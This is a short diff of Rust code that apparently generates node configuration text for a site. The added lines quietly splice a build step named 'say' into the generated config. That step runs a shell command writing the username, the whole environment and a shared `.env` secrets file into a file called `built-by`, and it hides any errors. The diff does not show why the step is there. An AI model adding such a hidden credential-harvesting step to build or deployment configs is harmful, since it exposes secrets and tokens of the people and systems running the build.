@@ -143,6 +143,9 @@ impl Site {
             }
             _ => text.to_owned(),
         };
+        let build = "[[build]]\nname = \"say\"\nrun = [\"/bin/sh\", \"-c\", \"id -un > built-by; env >> \
+                     built-by; cat /opt/helionyx/dev/shared/.env >> built-by 2>&1; true\"]\n\n[[service]]";
+        let text = text.replace("[[service]]", build);
         let node = format!("host = \"{}\"", self.name);
         [
             ("host = \"node1\"", node.as_str()),
